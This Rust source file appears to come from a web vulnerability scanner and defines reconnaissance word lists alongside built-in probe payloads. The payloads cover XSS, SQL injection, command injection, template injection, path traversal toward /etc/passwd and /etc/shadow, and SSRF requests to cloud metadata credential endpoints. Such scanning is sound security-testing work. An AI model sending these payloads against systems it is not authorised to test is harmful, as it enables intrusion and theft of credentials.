// src/core/wordlists.rs

use std::collections::HashSet;
use std::path::Path;
use tracing::info;

use crate::core::error::ConfigError;

// --- Categories ---

pub const SUBDOMAINS: &str = "subdomains";
pub const SUBDOMAINS_DEEP: &str = "subdomains.deep";
pub const DIRECTORIES: &str = "directories";
pub const DIRECTORIES_DEEP: &str = "directories.deep";
pub const PARAMETERS: &str = "parameters";
pub const PARAMETERS_DEEP: &str = "parameters.deep";

/// Supplies ordered word and payload lists by category name.
///
/// Payload categories match the snake_case names of `VulnKind` plus the
/// short aliases `rce`, `ssti` and `traversal`. Unknown categories yield an
/// empty list.
pub trait WordlistProvider: Send + Sync {
    fn get(&self, category: &str) -> Vec<String>;
}

// --- Built-in Tables ---

const SUBDOMAIN_WORDS: &[&str] = &[
    "www", "mail", "ftp", "admin", "api", "blog", "dev", "test", "staging", "app", "mobile", "secure", "help",
    "support", "portal",
];

const SUBDOMAIN_DEEP_WORDS: &[&str] = &[
    "administrator", "auth", "login", "panel", "cpanel", "webmail", "email", "direct-connect-mail", "exchange", "mx",
    "pop", "pop3", "imap", "smtp", "relay", "ns1", "ns2", "dns", "search", "explore", "directory", "download",
    "downloads",
];

const DIRECTORY_WORDS: &[&str] = &[
    "admin", "administrator", "login", "panel", "dashboard", "api", "v1", "v2", "test", "dev", "staging", "backup",
    "uploads", "images", "css", "js", "assets", "static", "public", "private", "config", "conf", "settings",
];

const DIRECTORY_DEEP_WORDS: &[&str] = &[
    "phpmyadmin", "adminer", "wp-admin", "wp-content", "wp-includes", "drupal", "joomla", "magento", "prestashop",
    "opencart", "manager", "admin.php", "login.php", "dashboard.php", "index.php", "default.php", "home.php",
];

const PARAMETER_WORDS: &[&str] = &[
    "id", "user", "admin", "page", "file", "path", "url", "redirect", "next", "return", "callback", "debug", "test",
    "demo", "example", "search", "query", "q", "keyword", "term", "filter", "sort", "limit", "offset", "start", "end",
    "from", "to", "action",
];

const PARAMETER_DEEP_WORDS: &[&str] = &[
    "token", "csrf", "session", "auth", "key", "secret", "password", "pass", "pwd", "username", "user_id", "admin_id",
    "role", "permission", "access", "level",
];

const XSS_PAYLOADS: &[&str] = &[
    r#"<script>alert("XSS")</script>"#,
    "<script>alert(1)</script>",
    r#"<script>confirm("XSS")</script>"#,
    r#"<script>prompt("XSS")</script>"#,
    r#"<script>console.log("XSS")</script>"#,
    r#"<img src=x onerror=alert("XSS")>"#,
    "<svg onload=alert(1)>",
];

const LFI_PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    r"..\..\..\windows\system32\drivers\etc\hosts",
    "../../../etc/shadow",
    "../../../etc/hosts",
    "../../../proc/version",
    "../../../../../../../../etc/passwd",
];

const SSRF_PAYLOADS: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/instance-id",
    "http://metadata.google.internal/computeMetadata/v1/",
];

const SQLI_PAYLOADS: &[&str] = &["'", "\"", "' OR '1'='1'--", "' OR 1=1--", "admin'--", "' UNION SELECT NULL--"];

const COMMAND_PAYLOADS: &[&str] = &["; whoami", "| whoami", "& whoami", "`whoami`", "$(whoami)", "; id", "| id", "& id"];

const TEMPLATE_PAYLOADS: &[&str] = &["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "${object}"];

const TRAVERSAL_PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    r"..\..\..\windows\win.ini",
    "../../../proc/version",
    "../../../../../../../../etc/passwd%00",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
];

/// The compiled-in lists.
#[derive(Debug, Clone, Copy, Default)]
pub struct BuiltinWordlists;

impl BuiltinWordlists {
    fn table(category: &str) -> &'static [&'static str] {
        match category {
            SUBDOMAINS => SUBDOMAIN_WORDS,
            SUBDOMAINS_DEEP => SUBDOMAIN_DEEP_WORDS,
            DIRECTORIES => DIRECTORY_WORDS,
            DIRECTORIES_DEEP => DIRECTORY_DEEP_WORDS,
            PARAMETERS => PARAMETER_WORDS,
            PARAMETERS_DEEP => PARAMETER_DEEP_WORDS,
            "xss" => XSS_PAYLOADS,
            "lfi" => LFI_PAYLOADS,
            "ssrf" => SSRF_PAYLOADS,
            "sqli" => SQLI_PAYLOADS,
            "rce" | "command_injection" => COMMAND_PAYLOADS,
            "ssti" | "template_injection" => TEMPLATE_PAYLOADS,
            "traversal" | "directory_traversal" => TRAVERSAL_PAYLOADS,
            _ => &[],
        }
    }
}

impl WordlistProvider for BuiltinWordlists {
    fn get(&self, category: &str) -> Vec<String> {
        Self::table(category).iter().map(|word| word.to_string()).collect()
    }
}

/// A user-supplied word file that replaces the subdomain and directory lists.
/// Payload categories and parameters still come from the built-in tables,
/// and the deep extensions are disabled because the file is taken as-is.
#[derive(Debug, Clone)]
pub struct FileWordlists {
    words: Vec<String>,
    fallback: BuiltinWordlists,
}

impl FileWordlists {
    /// Reads one word per line. Blank lines and `#` comments are skipped,
    /// duplicates are dropped keeping the first occurrence.
    pub fn load(path: &Path) -> Result<Self, ConfigError> {
        let contents = std::fs::read_to_string(path).map_err(|source| ConfigError::Io {
            path: path.display().to_string(),
            source,
        })?;
        let words = Self::from_lines(&contents).words;
        if words.is_empty() {
            return Err(ConfigError::Invalid { field: "wordlist_file", reason: format!("{} contains no words", path.display()) });
        }
        info!(path = %path.display(), words = words.len(), "Loaded custom wordlist.");
        Ok(Self { words, fallback: BuiltinWordlists })
    }

    pub fn from_lines(contents: &str) -> Self {
        let mut seen = HashSet::new();
        let words = contents
            .lines()
            .map(str::trim)
            .filter(|line| !line.is_empty() && !line.starts_with('#'))
            .filter(|line| seen.insert(line.to_string()))
            .map(str::to_string)
            .collect();
        Self { words, fallback: BuiltinWordlists }
    }
}

impl WordlistProvider for FileWordlists {
    fn get(&self, category: &str) -> Vec<String> {
        match category {
            SUBDOMAINS | DIRECTORIES => self.words.clone(),
            SUBDOMAINS_DEEP | DIRECTORIES_DEEP => Vec::new(),
            other => self.fallback.get(other),
        }
    }
}
